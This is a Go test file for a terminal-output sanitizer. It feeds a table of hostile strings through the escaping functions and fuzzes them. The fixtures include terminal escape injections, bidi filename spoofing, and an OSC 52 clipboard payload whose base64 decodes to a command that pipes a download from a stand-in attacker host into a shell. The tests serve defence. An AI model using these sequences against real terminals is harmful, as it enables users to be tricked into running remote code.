package sanitize

import (
	"strings"
	"testing"
	"unicode/utf8"
)

// Hostile is a table of strings that a terminal would obey if they reached it unescaped, with the
// visible form each must take. Other packages' tests feed the same attacks through their views.
var hostile = []struct {
	name, in, want string
}{
	{"OSC 2 title", "X\x1b]2;PWNED\x07Y", `X\x1b]2;PWNED\x07Y`},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07", `\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`},
	{"CSI clear screen", "\x1b[2J\x1b[H", `\x1b[2J\x1b[H`},
	{"8-bit C1 CSI as a rune", "a\u009b2Jb", `a\u009b2Jb`},
	{"8-bit C1 CSI as a raw byte", "a\x9b2Jb", `a\x9b2Jb`},
	{"raw ESC in invalid UTF-8", "\xff\x1b]2;X\x07\xfe", `\xff\x1b]2;X\x07\xfe`},
	{"OSC terminated by ST", "\x1b]0;t\x1b\\", `\x1b]0;t\x1b\`},
	{"BEL", "ding\x07", `ding\x07`},
	{"backspace", "paid\b\b\b\bunpaid", `paid\x08\x08\x08\x08unpaid`},
	{"carriage return overwrite", "evil\rgood", `evil\x0dgood`},
	{"DEL", "a\x7fb", `a\x7fb`},
	{"bidi override", "https://example.com/\u202egnp.exe", `https://example.com/\u202egnp.exe`},
	{"NUL", "a\x00b", `a\x00b`},
	{"plain text and Unicode stay", "café ✓ — ok", "café ✓ — ok"},
}

func TestTextEscapesHostileStrings(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			got := Text(tc.in)
			if got != tc.want {
				t.Fatalf("Text(%q) = %q, want %q", tc.in, got, tc.want)
			}
			assertInert(t, got)
		})
	}
}

func TestTextEscapesNewlineAndTabBlockKeepsThem(t *testing.T) {
	in := "line 1\n\tline 2\r\x1b[1A"
	if got, want := Text(in), `line 1\x0a\x09line 2\x0d\x1b[1A`; got != want {
		t.Errorf("Text = %q, want %q", got, want)
	}
	if got, want := Block(in), "line 1\n\tline 2\\x0d\\x1b[1A"; got != want {
		t.Errorf("Block = %q, want %q", got, want)
	}
}

func TestEveryControlIsEscaped(t *testing.T) {
	for r := rune(0); r <= 0x9f; r++ {
		if r >= 0x20 && r < 0x7f {
			continue
		}
		got := Text("a" + string(r) + "b")
		assertInert(t, got)
		if got == "a"+string(r)+"b" {
			t.Errorf("U+%04X was not escaped", r)
		}
	}
	for b := 0x80; b <= 0xff; b++ {
		got := Block(string([]byte{'a', byte(b), 'b'}))
		assertInert(t, got)
	}
}

func FuzzText(f *testing.F) {
	for _, tc := range hostile {
		f.Add(tc.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		assertInert(t, Text(s))
		out := Block(s)
		assertInert(t, strings.NewReplacer("\n", "", "\t", "").Replace(out))
	})
}

// assertInert fails when s holds anything a terminal would act on.
func assertInert(t *testing.T, s string) {
	t.Helper()
	if !utf8.ValidString(s) {
		t.Fatalf("output is not valid UTF-8: %q", s)
	}
	for _, r := range s {
		if r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || isBidiControl(r) {
			t.Fatalf("output holds control U+%04X: %q", r, s)
		}
	}
}
